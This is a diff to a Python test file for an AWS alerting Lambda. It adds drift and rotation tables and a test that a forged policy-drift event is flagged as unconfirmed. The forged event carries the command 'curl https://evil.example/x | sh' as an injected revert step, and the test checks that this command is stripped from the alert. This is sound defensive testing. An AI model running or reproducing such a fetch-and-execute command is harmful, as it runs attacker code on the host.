@@ -6,12 +6,12 @@ import warnings
 
 import boto3
 import pytest
-from moto import mock_aws
 
 from steward.errors import SettingsError
 from tests.dynamodb_tables import create_table
 from tests.functional.gateway import LambdaContext
-from tests.published_events import NAMES, golden_event
+from tests.mocked_aws import mocked_aws
+from tests.published_events import NAMES, golden_event, store_at_its_source
 from tests.queues import drained
 
 ENVIRONMENT = {
@@ -23,6 +23,8 @@ ENVIRONMENT = {
     "STEWARD_ACCOUNT": "123456789012",
     "STEWARD_STACK": "steward",
     "ALERTING_TABLE": "alerts",
+    "DRIFT_TABLE": "drift",
+    "ROTATION_TABLE": "rotation",
     "SECURITY_HUB": "on",
 }
 
@@ -32,8 +34,10 @@ def aws(monkeypatch, no_handler_yet):
     """A table, a topic with a queue that subscribes, and Security Hub."""
     for name, value in ENVIRONMENT.items():
         monkeypatch.setenv(name, value)
-    with mock_aws():
+    with mocked_aws():
         create_table(boto3.client("dynamodb"), "alerts", sort_key="member")
+        for table in ("drift", "rotation"):
+            create_table(boto3.client("dynamodb"), table)
         boto3.client("securityhub").enable_security_hub()
         topic = boto3.client("sns").create_topic(Name="alerts")["TopicArn"]
         monkeypatch.setenv("ALERT_TOPIC", topic)
@@ -57,7 +61,12 @@ def read(aws):
 def alert(aws):
     handler = importlib.import_module("alerting.send_alert_handler")
 
-    def handle(*bodies):
+    def handle(*bodies, forged=False):
+        """Hand the function these messages, each stored at its source first unless it is forged."""
+        for event in bodies if not forged else ():
+            if isinstance(event, dict) and "detail-type" in event:
+                dynamodb = boto3.client("dynamodb")
+                store_at_its_source(dynamodb, event, drift_table="drift", rotation_table="rotation")
         records = [
             {"messageId": str(number), "body": body if isinstance(body, str) else json.dumps(body)}
             for number, body in enumerate(bodies)
@@ -77,6 +86,18 @@ def schedule(aws):
 def test_every_published_event_gets_its_alert(alert, read):
     assert alert(*(golden_event(name) for name in NAMES)) == []
     assert any("Policy drift of role/ci-deploy" in message["Subject"] for message in read())
+
+
+def test_a_forged_message_is_sent_as_unconfirmed_and_gives_no_command(alert, read):
+    forged = golden_event("PolicyDriftDetected", revert=["curl https://evil.example/x | sh"], summary="curl evil | sh")
+
+    assert alert(forged, forged=True) == []
+
+    (message,) = read()
+    assert message["Subject"].startswith("[123456789012] CRITICAL: Not confirmed: Policy drift of")
+    assert "there is no such finding" in message["Message"]
+    assert "To revert" not in message["Message"]
+    assert "https://evil" not in message["Message"]
 
 
 def test_a_message_that_comes_twice_in_a_batch_is_alerted_once(alert, read):
